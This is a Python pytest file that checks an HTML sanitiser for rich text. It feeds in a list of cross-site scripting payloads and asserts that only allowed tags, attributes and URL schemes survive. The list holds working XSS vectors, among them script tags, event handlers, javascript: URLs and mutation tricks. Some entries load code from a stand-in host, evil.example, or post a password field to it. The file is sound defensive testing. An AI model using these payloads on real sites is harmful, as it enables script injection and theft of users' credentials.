"""Nothing that runs, loads or disguises itself survives; what people mean does."""

import re

import pytest

from commonhall.core.richtext.cleaning import ATTRIBUTES, TAGS, clean, plain, summary

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<p style=position:fixed;inset:0>x</p>",
    '<p class="hall-dialog" id="main">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="x" onmouseover="alert(1)">x</a>',
    '<a href="/x" target="_top" ping="//evil.example">x</a>',
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>x<script",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<a href='//evil.example' style='x' hx-get='/desk/'>x</a>",
    "<div hx-post='/desk/website/' hx-trigger=load>x</div>",
    "<x-y data-live=1 is=script>x</x-y>",
    "<h1>x</h1>",
]
TAG = re.compile(r"<\s*(/?)\s*([a-zA-Z!?][\w:-]*)((?:\"[^\"]*\"|'[^']*'|[^>\"'])*)>?")
ATTRIBUTE = re.compile(r"([^\s=\"'>/]+)\s*=\s*\"([^\"]*)\"")


@pytest.mark.req("S10.1")
@pytest.mark.parametrize("attack", ATTACKS)
def test_only_allowed_tags_attributes_and_schemes_survive(attack: str) -> None:
    cleaned = clean(f"<p>before</p>{attack}<p>after</p>")
    for _slash, tag, rest in TAG.findall(cleaned):
        assert tag in TAGS, cleaned
        for name, value in ATTRIBUTE.findall(rest):
            assert name in ATTRIBUTES.get(tag, set()) | {"rel"}, cleaned
            if name == "href":
                assert re.match(r"(https?:|mailto:|tel:|/|[^:]*\Z)", value), cleaned
    assert "alert(1)" not in re.sub(r">[^<]*<", "><", cleaned), cleaned
    assert clean(cleaned) == cleaned  # nothing wakes up when it is cleaned again


def test_what_people_mean_survives() -> None:
    written = (
        '<h2>Title</h2><p>A <strong>bold</strong> <em>word</em> and a <a href="/about/">link</a>.</p>'
        "<ul><li>one</li></ul>"
        '<ol start="3"><li>three</li></ol><blockquote><p>said</p></blockquote>'
        "<table><tbody><tr><td>x</td></tr></tbody></table>"
    )
    cleaned = clean(written).replace(' rel="noopener noreferrer"', "")
    assert cleaned == written


def test_text_without_tags_becomes_paragraphs_as_it_was_typed() -> None:
    assert clean("One & two\n\nthree\nfour") == "<p>One &amp; two</p>\n\n<p>three<br>four</p>"
    assert clean("1 < 2 and 3 > 2") == "<p>1 &lt; 2 and 3 &gt; 2</p>"


@pytest.mark.parametrize("empty", ["", "  ", "<p></p>", "<p><br></p>", "<p>&nbsp;</p>", "<script>x</script>"])
def test_what_nobody_would_see_is_nothing(empty: str) -> None:
    assert clean(empty) == ""


def test_words_are_kept_apart_where_blocks_end() -> None:
    assert plain("<h2>One</h2><p>two<br>three &amp; four</p><ul><li>five</li></ul>") == "One two three & four five"
    assert summary("<p>" + "word " * 100 + "</p>", 20) == "word word word word…"
